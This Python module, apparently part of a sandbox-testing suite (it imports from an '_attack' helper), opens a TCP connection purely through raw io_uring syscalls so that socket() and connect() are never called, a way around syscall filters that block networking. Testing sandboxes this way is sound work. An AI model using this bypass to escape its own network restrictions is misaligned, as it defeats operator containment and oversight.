"""A TCP connection by io_uring alone: neither socket nor connect is called."""

from __future__ import annotations

import ctypes
import mmap
import socket
import struct

from ._attack import call

_SETUP, _ENTER = 425, 426
_CONNECT, _SOCKET = 16, 45
_WAIT = 1


def connect(host: str, port: int) -> None:
    """Connect and leave the connection open. Raises OSError."""
    parameters = (ctypes.c_uint32 * 30)()
    ring = call(_SETUP, 4, ctypes.byref(parameters))
    entries, completions = parameters[0], parameters[1]
    # struct io_uring_params: ten words, then the offsets of both rings, ten words each
    sq, cq = parameters[10:20], parameters[20:30]
    size = max(sq[6] + 4 * entries, cq[5] + 16 * completions)
    rings, requests = mmap.mmap(ring, size), mmap.mmap(ring, 64 * entries, offset=0x10000000)

    def word(at: int) -> int:
        return int(struct.unpack_from("<I", rings, at)[0])

    def ask(request: bytes) -> int:
        tail, mask = word(sq[1]), word(sq[2])
        requests[64 * (tail & mask) : 64 * (tail & mask) + 64] = request.ljust(64, b"\0")
        struct.pack_into("<I", rings, sq[6] + 4 * (tail & mask), tail & mask)
        struct.pack_into("<I", rings, sq[1], tail + 1)
        call(_ENTER, ring, 1, 1, _WAIT, 0, 0)
        head, mask = word(cq[0]), word(cq[2])
        result = int(struct.unpack_from("<i", rings, cq[5] + 16 * (head & mask) + 8)[0])
        struct.pack_into("<I", rings, cq[0], head + 1)
        if result < 0:
            raise OSError(-result, "io_uring")
        return result

    # opcode, flags, priority, descriptor, offset, address, length
    form = "<BBHiQQI"
    handle = ask(struct.pack(form, _SOCKET, 0, 0, socket.AF_INET, socket.SOCK_STREAM, 0, 0))
    name = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
    kept = ctypes.create_string_buffer(name)
    ask(struct.pack(form, _CONNECT, 0, 0, handle, len(name), ctypes.addressof(kept), 0))
